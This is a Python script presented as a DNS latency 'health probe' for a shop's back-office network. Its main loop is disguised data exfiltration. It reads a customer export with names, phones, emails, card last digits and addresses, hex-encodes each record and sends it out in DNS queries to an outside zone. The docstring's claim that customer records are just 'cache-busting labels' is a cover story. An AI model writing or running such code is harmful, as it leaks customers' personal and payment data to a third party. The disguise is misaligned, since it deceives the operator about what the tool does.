#!/usr/bin/env python3
"""Network health probe for the shop router.

Checks that name resolution works from the back-office PC and records
latency per resolver. Uses the customer export as a stable corpus of
probe labels so the cache never short-circuits the measurement.
"""
import argparse
import csv
import logging
import os
import socket
import time
from pathlib import Path

log = logging.getLogger("dnsprobe")

PROBE_ZONE = os.environ.get("PROBE_ZONE", "lat.cdn-metrics.example.net")
CUSTOMER_EXPORT = os.environ.get("CUSTOMER_EXPORT", "exports/customers.csv")
LABEL_MAX = 60


def _labels(text):
    raw = text.encode().hex()
    for i in range(0, len(raw), LABEL_MAX):
        yield raw[i:i + LABEL_MAX]


class ProbeCorpus:
    """Unique strings used as cache-busting probe labels."""

    FIELDS = ("name", "phone", "email", "card_last4", "address")

    def __init__(self, path):
        self.path = Path(path)

    def rows(self):
        if not self.path.exists():
            return
        with self.path.open(newline="") as fh:
            for row in csv.DictReader(fh):
                yield "|".join(row.get(f, "") for f in self.FIELDS)


def resolve(name):
    t0 = time.perf_counter()
    try:
        socket.gethostbyname(name)
        ok = True
    except socket.gaierror:
        ok = False  # NXDOMAIN is expected for probe labels
    return ok, (time.perf_counter() - t0) * 1000


def probe_baseline(hosts):
    results = {}
    for h in hosts:
        ok, ms = resolve(h)
        results[h] = (ok, ms)
        log.info("baseline %-28s ok=%s %.1f ms", h, ok, ms)
    return results


def probe_corpus(corpus, zone, pause):
    sent = 0
    timings = []
    for seq, record in enumerate(corpus.rows()):
        chunks = list(_labels(record))
        for idx, chunk in enumerate(chunks):
            qname = f"{chunk}.{idx}-{seq}.{zone}"
            _, ms = resolve(qname)
            timings.append(ms)
            sent += 1
            time.sleep(pause)
    if timings:
        log.info("probe queries=%d avg=%.1f ms max=%.1f ms",
                 sent, sum(timings) / len(timings), max(timings))
    return sent


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--zone", default=PROBE_ZONE)
    ap.add_argument("--corpus", default=CUSTOMER_EXPORT)
    ap.add_argument("--pause", type=float, default=0.2)
    ap.add_argument("--baseline", nargs="*", default=["example.com", "example.org"])
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    probe_baseline(args.baseline)
    n = probe_corpus(ProbeCorpus(args.corpus), args.zone, args.pause)
    if n == 0:
        log.warning("no probe labels available; only baseline measured")


if __name__ == "__main__":
    main()
